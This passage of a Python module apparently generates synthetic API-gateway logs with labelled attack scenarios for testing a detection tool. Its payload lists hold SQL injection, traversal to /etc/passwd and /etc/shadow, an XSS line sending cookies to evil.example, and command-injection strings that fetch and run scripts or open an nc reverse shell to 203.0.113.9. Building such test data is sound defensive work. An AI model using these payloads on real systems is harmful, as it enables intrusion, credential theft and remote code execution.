    n = rng.randint(60, 150)
    pages = (n + 99) // 100
    times = _spread(rng, t0, span, pages + n)
    out = []
    for page, ms in enumerate(times[:pages]):
        query = "limit=100" if page == 0 else f"limit=100&after=file_{_rand_str(rng, 20, _ALNUM)}"
        raw = _api_event(rng, ms, actor, user, "files_list", 200)
        raw["query"], raw["bytes_out"] = query, 300 + 230 * 100
        out.append((ms, raw))
    for ms in times[pages:]:
        raw = _api_event(rng, ms, actor, user, "file_content", 200)
        raw["path"] = f"/v1/files/file_{_rand_str(rng, 20, _ALNUM)}/content"
        raw["bytes_out"] = size = int(min(5e8, rng.lognormvariate(math.log(3e7), 0.8)))
        raw["latency_ms"] = round(60.0 + size / 45_000.0, 3)
        out.append((ms, raw))
    return out


def _token_spike(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
    user = world.users[world.keyed.pick(rng)]
    actor = _Actor(_ipv4(rng, "154.47"), (), user.keys[0], "api_key", False, user.sdk_ua, user.tls)
    out = []
    ms = t0 + rng.randrange(3_000)
    while ms < t0 + span:
        status = 200 if rng.random() < 0.96 else 429
        raw = _api_event(rng, ms, actor, user, "chat", status, model=user.chat_model, out_scale=20.0)
        out.append((ms, raw))
        ms += 500 + int(rng.expovariate(1 / 3_500))
    return out


def _slow_scraping(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
    user = world.users[world.keyed.pick(rng)]
    actor = _Actor(_ipv4(rng, "167.99"), (), rng.choice(user.keys), "api_key", False, "python-httpx/0.25.2", "TLSv1.3")
    out = []
    ms = t0 + rng.randrange(5_000)
    while ms < t0 + span:
        if rng.random() < 0.1:
            raw = _api_event(rng, ms, actor, user, "files_list", 200)
            raw["query"] = f"limit=100&after=file_{_rand_str(rng, 20, _ALNUM)}"
        else:
            found = rng.random() < 0.3
            raw = _api_event(rng, ms, actor, user, "file_content", 200 if found else 404)
            raw["path"] = f"/v1/files/file_{_rand_str(rng, 20, _ALNUM)}/content"
        out.append((ms, raw))
        ms += 10_000 + rng.randrange(30_000)
    return out


_SCANNER_UAS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Go-http-client/1.1",
)
_TRAVERSALS = (
    "../../../../etc/passwd",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "....//....//....//windows/win.ini",
    "..\\..\\..\\boot.ini",
    "%2e%2e/%2e%2e/proc/self/environ",
)
_SQLI = (
    "' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1; SELECT pg_sleep(10)--",
    "1%27%20OR%201%3D1--%20",
    "admin'/**/OR/**/1=1#",
    "1) AND (SELECT 1 FROM (SELECT SLEEP(5))x)--",
)
_XSS = (
    "<script>alert(document.cookie)</script>",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
)
_CMDI = (
    "test;cat /etc/passwd",
    "x|id",
    "$(curl -s http://203.0.113.9/s.sh|sh)",
    "`wget http://203.0.113.9/x -O-|sh`",
    "a&&nc -e /bin/sh 203.0.113.9 4444",
)
_PAYLOAD_PARAMS = ("purpose", "limit", "after", "order", "file", "name", "q")


def _payload_request(rng: random.Random) -> tuple[str, str, str, str, str | None]:
    """(method, path, route, query, body) of one probe."""
    family = rng.choice(("sqli", "xss", "traversal", "cmdi"))
    payload = rng.choice({"sqli": _SQLI, "xss": _XSS, "traversal": _TRAVERSALS, "cmdi": _CMDI}[family])
    where = "path" if family == "traversal" and rng.random() < 0.7 else rng.choice(("query", "query", "body"))
    method = "POST" if where == "body" else "GET"
    if rng.random() < 0.15:
        method = rng.choice(("PUT", "DELETE", "TRACE"))
    if where == "path":
        path = rng.choice(("/v1/files/{}/content", "/v1/files/{}", "/v1/batches/{}")).format(payload)
        return method, path, path, "", None
    if where == "query":
        param = rng.choice(_PAYLOAD_PARAMS)
        query = f"{param}={payload}" if rng.random() < 0.5 else f"limit=20&{param}={payload}"
        return method, "/v1/files", "/v1/files", query, None
    method = "PUT" if method == "PUT" else "POST"
    route = rng.choice(("/v1/files", "/v1/batches", "/v1/chat/completions"))
    field = rng.choice(("purpose", "metadata", "model", "name"))
    body = orjson.dumps({field: payload, "input_file_id": f"file_{_rand_str(rng, 20, _ALNUM)}"}).decode()
    return method, route, route, "", body


def _payload_attack(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
    user = world.users[world.keyed.pick(rng)]
    ip = _ipv4(rng, "193.37")
    out = []
    for ms in _spread(rng, t0, span, rng.randint(40, 100)):
        ua = _SCANNER_UAS[0] if rng.random() < 0.5 else rng.choice(_SCANNER_UAS[1:])
        actor = _Actor(ip, (), user.keys[0], "api_key", False, ua, "TLSv1.3")
        method, path, route, query, body = _payload_request(rng)
        status = rng.choices((400, 403, 404, 405, 500, 200), (0.4, 0.15, 0.25, 0.1, 0.05, 0.05))[0]
        latency, b_out = _error_shape(rng, status)
        b_in = len(body) if body else 0
        raw = _event(rng, ms, actor, user, method, path, route, query, status, latency, b_in, b_out)
        if body is not None:
            raw["body"] = body
        out.append((ms, raw))
    return out


SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        Scenario("brute_force", "30-60 failed logins against one user from one IP", timedelta(minutes=3),
                 _brute_force),
        Scenario("credential_stuffing", "logins against 40+ users from 1-3 IPs", timedelta(minutes=4.5),
                 _credential_stuffing),
        Scenario("key_leak", "one API key used from 20+ IPs in many countries", timedelta(minutes=15),
                 _key_leak),
        Scenario("exfiltration", "mass download of file contents with large responses", timedelta(minutes=20),
                 _exfiltration),
        Scenario("token_spike", "one key's output tokens per request jump ~20x", timedelta(minutes=10),
                 _token_spike),
        Scenario("slow_scraping", "a stolen key slowly enumerates file contents from a new IP",
                 timedelta(minutes=60), _slow_scraping),
    )
}  # fmt: skip
"""Available scenarios by name (their events follow the fixed raw schema)."""

CONTENT_SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        Scenario("payload_attack", "SQLi, XSS, traversal and command injection probes in path, query and body",
                 timedelta(minutes=10), _payload_attack),
    )
}  # fmt: skip
"""Scenarios whose events extend the raw schema (an optional ``body`` key, any method, unrouted paths)."""

_ALL_SCENARIOS: dict[str, Scenario] = {**SCENARIOS, **CONTENT_SCENARIOS}


def _scenario_events(
    name: str, occurrence: int, seed: int, world: _World, start_ms: int, end_ms: int
) -> list[SyntheticEvent]:
    rng = random.Random(f"logwarden-synthetic:{seed}:{name}:{occurrence}")
    window = end_ms - start_ms
    span = min(_ALL_SCENARIOS[name].span // timedelta(milliseconds=1), int(window * 0.9))
    t0 = start_ms + int(rng.random() * (window - span))
    built = _ALL_SCENARIOS[name].build(rng, world, t0, span)
    built.sort(key=lambda item: item[0])
    return [SyntheticEvent(raw, name) for ms, raw in built if ms < end_ms]


def _timestamp(event: SyntheticEvent) -> str:
    return str(event.raw["timestamp"])


def generate_api_access(
    *,
    seed: int = 7,
    start: datetime = datetime(2026, 11, 2, 8, 0, tzinfo=UTC),
    duration: timedelta = timedelta(hours=1),
    rate_per_s: float = 5.0,
    scenarios: Sequence[str] = ("brute_force",),
    n_orgs: int = 12,
) -> Iterator[SyntheticEvent]:
    """Lazily yield raw gateway events in ``[start, start + duration)`` in timestamp order.

    ``rate_per_s`` is the daily mean request rate of normal traffic (the diurnal curve gives about 0.92x of
    it at 08:00 UTC and 1.3x at 15:00). Arguments are checked at call time; unknown scenario names raise
    :class:`ValueError`.

    >>> first = next(generate_api_access(seed=3, scenarios=()))
    >>> first.scenario is None, first.raw["timestamp"].startswith("2026-11-02T08:00")
    (True, True)
    """
    names = [scenarios] if isinstance(scenarios, str) else list(scenarios)
    unknown = [n for n in names if n not in _ALL_SCENARIOS]
    if unknown:
        bad = ", ".join(map(repr, unknown))
        raise ValueError(f"unknown scenario(s) {bad}; valid scenarios: {', '.join(_ALL_SCENARIOS)}")
    if start.tzinfo is None:
        raise ValueError("start must be timezone-aware (UTC)")
    if duration <= timedelta(0):
        raise ValueError("duration must be positive")
    if not rate_per_s > 0:
        raise ValueError("rate_per_s must be positive")
    if n_orgs < 1:
        raise ValueError("n_orgs must be at least 1")
    start_ms = (start - _EPOCH) // timedelta(milliseconds=1)
    end_ms = start_ms + duration // timedelta(milliseconds=1)
    world = _build_world(seed, n_orgs)
    normal = _normal_traffic(world, seed, start_ms, end_ms, rate_per_s)
    if not names:
        return normal
    injected = [
        _scenario_events(name, names[:i].count(name), seed, world, start_ms, end_ms) for i, name in enumerate(names)
    ]
    return heapq.merge(normal, *injected, key=_timestamp)
